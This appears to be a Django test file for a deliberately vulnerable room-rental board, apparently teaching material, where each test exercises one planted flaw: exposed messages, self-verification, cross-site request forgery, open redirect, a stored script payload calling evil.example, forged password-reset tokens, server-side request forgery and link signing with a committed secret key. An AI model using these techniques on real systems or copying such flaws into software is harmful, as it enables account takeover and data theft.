"""Each hole, used once. These tests pass while it is open."""

import hashlib
import re
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

from django.conf import settings
from django.contrib.auth.models import User
from django.core import signing
from django.test import Client, TestCase
from django.utils import timezone

from board.models import Message, Profile, Room


class Internal(BaseHTTPRequestHandler):
    """Something that only the server itself can reach."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"<title>Key of the backup: 4711</title>")

    def log_message(self, *args: object) -> None:
        """Nothing is printed between the tests."""


class FlawTests(TestCase):
    def setUp(self) -> None:
        self.ada, self.ben, self.eve = (self.make_user(name) for name in ("ada", "ben", "eve"))
        self.room = Room.objects.create(landlord=self.ada, title="Sunny", description="Big", rent=500)
        self.message = Message.objects.create(room=self.room, sender=self.ben, text="My bank is at ...")
        self.client.force_login(self.eve)

    @staticmethod
    def make_user(name: str) -> User:
        user = User.objects.create_user(name, f"{name}@example.com")
        Profile.objects.create(user=user, phone=f"0660 {name}")
        return user

    def test_anybody_reads_all_messages_and_phone_numbers(self) -> None:
        page = self.client.get(f"/messages/{self.message.pk}/")
        self.assertContains(page, "My bank is at")
        self.assertContains(page, "0660 ben")

    def test_people_verify_themselves(self) -> None:
        self.client.post("/profile/", {"about": "", "phone": "", "is_verified": "on"})
        self.eve.profile.refresh_from_db()
        self.assertTrue(self.eve.profile.is_verified)

    def test_a_form_of_another_site_takes_a_room_down(self) -> None:
        browser = Client(enforce_csrf_checks=True)
        browser.force_login(self.ada)
        browser.post(f"/rooms/{self.room.pk}/taken/", headers={"origin": "https://evil.example"})
        self.room.refresh_from_db()
        self.assertTrue(self.room.is_taken)

    def test_signing_in_leads_to_another_site(self) -> None:
        self.ada.set_password("a-long-password")
        self.ada.save()
        sent = {"username": "ada", "password": "a-long-password"}
        answer = Client().post("/sign-in/?next=https://evil.example/sign-in/", sent)
        self.assertEqual(answer.headers["location"], "https://evil.example/sign-in/")

    def test_a_description_runs_a_script(self) -> None:
        script = "<script>fetch('https://evil.example/')</script>"
        room = Room.objects.create(landlord=self.eve, title="Cheap", description=script, rent=1)
        self.assertContains(Client().get(f"/rooms/{room.pk}/"), script)

    def test_a_password_is_set_by_somebody_who_knows_the_address(self) -> None:
        known = f"{self.ada.pk}:ada@example.com:{timezone.localdate()}"
        token = hashlib.sha256(known.encode()).hexdigest()
        Client().post(f"/password/new/{self.ada.pk}/{token}/", {"password": "chosen-by-eve"})
        self.assertTrue(Client().login(username="ada", password="chosen-by-eve"))

    def test_the_server_fetches_what_only_it_can_reach(self) -> None:
        server = HTTPServer(("127.0.0.1", 0), Internal)
        self.addCleanup(server.server_close)
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        self.addCleanup(thread.join)
        self.addCleanup(server.shutdown)
        link = f"http://127.0.0.1:{server.server_port}/"
        fields = {"title": "Attic", "description": "Low", "rent": 300, "link": link}
        page = self.client.post("/rooms/new/", fields, follow=True)
        self.assertContains(page, "Key of the backup: 4711")

    def test_a_reader_of_the_repository_signs_links(self) -> None:
        source = (settings.BASE_DIR / "config" / "settings.py").read_text()
        literal = re.search(r'^SECRET_KEY = "(.+)"', source, re.MULTILINE)
        key = literal[1] if literal else "not in the repository"
        token = signing.dumps(self.message.pk, key=key, salt="shared-message")
        self.assertContains(Client().get(f"/shared/{token}/"), "My bank is at")
